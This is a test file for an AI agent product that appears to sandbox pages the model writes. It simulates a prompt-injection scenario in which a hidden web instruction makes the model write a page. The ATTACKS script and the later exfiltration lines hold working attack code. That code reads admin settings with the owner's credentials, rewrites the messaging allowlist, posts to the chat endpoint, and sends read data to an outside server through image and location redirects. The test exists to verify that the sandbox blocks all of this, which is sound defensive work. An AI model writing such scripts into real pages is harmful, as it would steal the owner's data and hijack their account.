import { createServer, type Server } from "node:http";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import { startFakeAnthropic, textTurn, toolTurn, type FakeLlmServer } from "@stavrobot/common/test-support";
import { chat, configFor, createTestEnv, type TestEnv } from "../helpers/app.js";
import { raw } from "../helpers/http.js";
import { startProduct, type Product } from "../helpers/product.js";
import { describeInBrowser, launchBrowser, ownerContext, type OwnerContext } from "./helpers/browser.js";

/**
 * A page the model writes, opened by the owner in the browser where they are signed in, can show
 * the owner's data through its own named queries and nothing more (under `npm start`): what an
 * instruction hidden in a web page could make the model write (read the settings, edit the
 * allowlist, post to /chat, open /settings, send what it read to another site) fails from a
 * public page and a private one, while the same script on an admin page succeeds; a page's own
 * query works; a page with a Chart.js chart still renders; the owner's hosts for a page are
 * reached, and no others.
 */
let fake: FakeLlmServer;
let testEnv: TestEnv;
let app: Product;
let browser: Browser;
/** Another site: every request that reaches it is data that left. */
let outside: Server;
let outsideUrl: string;
const arrived: string[] = [];

/** What the hidden instructions would have the page do; each attempt's outcome is written into the page. */
const ATTACKS = `
const attempt = async (name, action) => {
  try { results[name] = await action(); } catch (error) { results[name] = "blocked: " + error.name; }
};
const read = (path) => async () => {
  const response = await fetch(path, { credentials: "include" });
  return response.status + " " + (await response.text()).slice(0, 60);
};
const send = (method, path, body, type = "application/json") => async () => {
  const response = await fetch(path, { method, credentials: "include", headers: { "Content-Type": type }, body: JSON.stringify(body) });
  return String(response.status);
};
const results = {};
await attempt("provider", read("/api/settings/provider"));
await attempt("allowlistRead", read("/api/settings/allowlist"));
await attempt("people", read("/api/people"));
await attempt("allowlist", send("PUT", "/api/settings/allowlist", { telegram: [666], signal: [], whatsapp: [], email: [] }));
await attempt("allowlistPlain", send("PUT", "/api/settings/allowlist", { telegram: [667], signal: [], whatsapp: [], email: [] }, "text/plain"));
await attempt("chat", send("POST", "/chat", { message: "remember that the page ran" }));
await attempt("chatPlain", send("POST", "/chat", { message: "remember that the page ran" }, "text/plain"));
await attempt("settingsWindow", async () => {
  const opened = window.open("/settings");
  if (!opened) return "no window";
  await new Promise((resolve) => setTimeout(resolve, 500));
  return "read: " + opened.document.title;
});
`;

function attackPage(path: string): string {
  return `<!doctype html>
<html><head><title>Notes</title></head>
<body>
<h1>Notes</h1>
<ul id="rows"></ul>
<pre id="results">running</pre>
<script>
(async () => {
  const response = await fetch("/api/pages/${path}/queries/notes?author=Ada");
  for (const row of await response.json()) {
    const item = document.createElement("li");
    item.textContent = row.title;
    document.getElementById("rows").append(item);
  }
  ${ATTACKS}
  document.getElementById("results").textContent = JSON.stringify(results);
  document.body.dataset.done = "1";
})();
</script>
</body></html>`;
}

const CHART_PAGE = `<!doctype html>
<html><head><script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.0/dist/chart.umd.min.js"></script></head>
<body><canvas id="chart" width="400" height="200"></canvas>
<script>
fetch("/api/pages/chart/queries/notes?author=Ada").then((response) => response.json()).then((rows) => {
  const chart = new Chart(document.getElementById("chart"), {
    type: "bar",
    data: { labels: rows.map((row) => row.title), datasets: [{ label: "length", data: rows.map((row) => row.title.length) }] },
    options: { animation: false },
  });
  document.body.dataset.chart = chart.data.labels.join(",");
});
</script></body></html>`;

/** A page the owner lets reach one host of theirs (`[pages.connectHosts]`). */
function feedPage(target: string): string {
  return `<!doctype html><html><body><p id="out">waiting</p><script>
Promise.allSettled([fetch(${JSON.stringify(`${target}/feed`)}), fetch("https://elsewhere.example/x")]).then(([mine, other]) => {
  document.getElementById("out").textContent = mine.status + " " + other.status;
  document.body.dataset.done = "1";
});
</script></body></html>`;
}

/** Scripts from a host the owner allows (`[pages] scriptHosts`) and from one they do not. */
const LIBRARIES_PAGE = `<!doctype html><html><head>
<script src="https://cdn.example.test/lib.js"></script>
<script src="https://other.example.test/lib.js"></script>
</head><body><script>document.body.dataset.done = (window.loaded || []).join(",") || "none";</script></body></html>`;

const NOTES_QUERY = "SELECT title FROM notes WHERE author = $param:author ORDER BY title";

/** The model writes a page (a tool call through the agent, as after a person's request). */
async function modelWrites(path: string, content: string, isPublic: boolean): Promise<void> {
  fake.reset();
  fake.enqueue(
    toolTurn("manage_pages", {
      action: "upsert",
      path,
      mimetype: "text/html",
      content,
      is_public: isPublic,
      queries: { notes: NOTES_QUERY },
    }),
    textTurn("Written."),
  );
  const reply = await chat(app, `write the ${path} page`);
  expect(reply.body.response).toBe("Written.");
  expect(fake.requests[1]!.lastUserText).toContain(`/pages/${path}`);
}

beforeAll(async () => {
  outside = createServer((req, res) => {
    arrived.push(`${req.method} ${req.url}`);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("from outside");
  });
  const port = await new Promise<number>((resolve) =>
    outside.listen(0, "127.0.0.1", () => resolve((outside.address() as { port: number }).port)),
  );
  outsideUrl = `http://127.0.0.1:${port}`;
  fake = await startFakeAnthropic();
  testEnv = await createTestEnv(
    configFor(
      fake,
      "anthropic",
      `[owner]\nname = "Ada"\ntelegram = 4242\n[telegram]\nbotToken = "123:abc"\napiBaseUrl = "http://127.0.0.1:9"\n` +
        `[pages]\nscriptHosts = ["https://cdn.example.test"]\n[pages.connectHosts]\nfeed = ["${outsideUrl}"]\n`,
    ),
  );
  [browser, app] = await Promise.all([launchBrowser(), startProduct(testEnv)]);
  fake.enqueue(
    toolTurn("execute_sql", {
      query:
        "CREATE TABLE notes (title text, author text); " +
        "INSERT INTO notes VALUES ('Buy milk', 'Ada'), ('Call Bob', 'Ada'), ('Secret plan', 'Eve')",
    }),
    textTurn("Table made."),
  );
  expect((await chat(app, "make a notes table")).body.response).toBe("Table made.");
  await modelWrites("public-notes", attackPage("public-notes"), true);
  await modelWrites("private-notes", attackPage("private-notes"), false);
  await modelWrites("chart", CHART_PAGE, false);
  await modelWrites("feed", feedPage(outsideUrl), false);
  await modelWrites("libraries", LIBRARIES_PAGE, false);
  await app.quiet();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await fake?.close();
  await testEnv?.cleanup();
  await new Promise((resolve) => outside?.close(resolve));
});

/**
 * Where the page's own script runs (its frame; were pages served as documents of their own, the
 * window itself), once that script has said it is done.
 */
async function pageFrame(page: Page, marker: string): Promise<Frame> {
  let found: Frame | undefined;
  await vi.waitFor(
    async () => {
      found = undefined;
      for (const frame of page.frames())
        if (await frame.getAttribute("body", marker, { timeout: 1_000 }).catch(() => null)) found = frame;
      expect(found).toBeDefined();
    },
    { timeout: 15_000 },
  );
  return found as Frame;
}

async function allowlistTelegram(): Promise<unknown[]> {
  const response = await raw(app.port, "GET", "/api/settings/allowlist");
  return response.json.allowlist.telegram as unknown[];
}

describeInBrowser("a page the model wrote, opened by the owner", () => {
  it.each(["public-notes", "private-notes"])(
    "%s: shows its own query's rows, and none of the owner's powers works from it",
    async (path) => {
      const owner: OwnerContext = await ownerContext(browser, app.port);
      const requestsBefore = fake.requests.length;
      const response = await owner.page.goto(`/pages/${path}`);
      expect(response?.status()).toBe(200);
      const frame = await pageFrame(owner.page, "data-done");
      // Its own named query, with the page's key: Ada's rows and not Eve's.
      expect(await frame.locator("#rows li").allTextContents()).toEqual(["Buy milk", "Call Bob"]);
      const results = JSON.parse((await frame.textContent("#results")) as string) as Record<string, string>;
      // Nothing of the admin API is readable, and nothing it would change was accepted.
      for (const name of ["provider", "allowlistRead", "people"])
        expect(results[name]).toMatch(/^blocked: TypeError$/);
      for (const name of ["allowlist", "chat"]) expect(results[name]).toMatch(/^blocked: TypeError$/);
      // A request a page may send without asking (text/plain) reaches the app and is refused.
      expect(results.allowlistPlain).toMatch(/^blocked: TypeError$|^(403|415)$/);
      expect(results.chatPlain).toMatch(/^blocked: TypeError$|^(403|415)$/);
      expect(results.settingsWindow).toBe("no window");
      expect(await allowlistTelegram()).toEqual([4242]);
      expect(fake.requests.length).toBe(requestsBefore);

      // Out with what it read, every way a page has: its frame, the window, an image, a link.
      await frame.evaluate(`new Image().src = ${JSON.stringify(`${outsideUrl}/image?d=rows`)}`);
      await frame.evaluate(
        `try { top.location.href = ${JSON.stringify(`${outsideUrl}/top?d=rows`)} } catch {}`,
      );
      await frame.evaluate(`location.href = ${JSON.stringify(`${outsideUrl}/frame?d=rows`)}`);
      await frame.evaluate(`location.href = "/settings"`).catch(() => undefined);
      // The holder stays on the page; nothing arrived outside; /settings was never shown in it.
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      expect(owner.page.url()).toMatch(new RegExp(`/pages/${path}$`));
      expect(arrived).toEqual([]);
      for (const shown of owner.page.frames())
        expect(shown.url()).not.toMatch(/\/settings$|127\.0\.0\.1:\d+\/(top|frame)/);
      await owner.context.close();
    },
  );

  it("the same script on an admin page has the owner's powers (so the page's failures are the sandbox's doing)", async () => {
    const owner = await ownerContext(browser, app.port);
    await owner.page.goto("/explorer");
    const results = (await owner.page.evaluate(`(async () => { ${ATTACKS}; return results; })()`)) as Record<
      string,
      string
    >;
    expect(results.provider).toMatch(/^200 /);
    expect(results.allowlist).toBe("200");
    expect(await allowlistTelegram()).toEqual([4242, 666]);
    // Put back as it was.
    const restored = await raw(app.port, "PUT", "/api/settings/allowlist", {
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ telegram: [], signal: [], whatsapp: [], email: [] }),
    });
    expect(restored.status).toBe(200);
    expect(await allowlistTelegram()).toEqual([4242]);
    await owner.context.close();
  });

  it("a page with a Chart.js chart (loaded the way pages load it, from jsDelivr) renders, from this site", async () => {
    const owner = await ownerContext(browser, app.port);
    const outsideRequests: string[] = [];
    owner.page.on("request", (request) => {
      if (!request.url().startsWith(`http://127.0.0.1:${app.port}/`)) outsideRequests.push(request.url());
    });
    await owner.page.goto("/pages/chart");
    const frame = await pageFrame(owner.page, "data-chart");
    expect(await frame.getAttribute("body", "data-chart")).toBe("Buy milk,Call Bob");
    expect(outsideRequests).toEqual([]);
    expect(owner.problems).toEqual([]);
    await owner.context.close();
  });

  it("a page reaches the host the owner allowed for it, and no other", async () => {
    const owner = await ownerContext(browser, app.port);
    await owner.page.goto("/pages/feed");
    const frame = await pageFrame(owner.page, "data-done");
    expect(await frame.textContent("#out")).toBe("fulfilled rejected");
    expect(arrived).toEqual(["GET /feed"]);
    await owner.context.close();
  });

  it("a page loads scripts from the hosts the owner allows, and from no other", async () => {
    const owner = await ownerContext(browser, app.port);
    // Both hosts answer here (this machine has no internet): what the browser asks for, they serve.
    const asked: string[] = [];
    await owner.context.route(/^https:\/\/(cdn|other)\.example\.test\//, async (route) => {
      const host = new URL(route.request().url()).hostname.split(".")[0] as string;
      asked.push(host);
      await route.fulfill({
        contentType: "text/javascript",
        body: `window.loaded = (window.loaded || []).concat(${JSON.stringify(host)});`,
      });
    });
    await owner.page.goto("/pages/libraries");
    const frame = await pageFrame(owner.page, "data-done");
    expect(await frame.getAttribute("body", "data-done")).toBe("cdn");
    expect(asked).toEqual(["cdn"]);
    await owner.context.close();
  });

  it("a link to the frame's own address, opened as a page of its own, gets the holder again", async () => {
    const owner = await ownerContext(browser, app.port);
    await owner.page.goto("/pages/private-notes?page-frame=1");
    // The browser says it opens a document: the holder, whose frame runs the page sandboxed.
    const frame = await pageFrame(owner.page, "data-done");
    expect(await frame.locator("#rows li").allTextContents()).toEqual(["Buy milk", "Call Bob"]);
    await owner.context.close();
  });
});
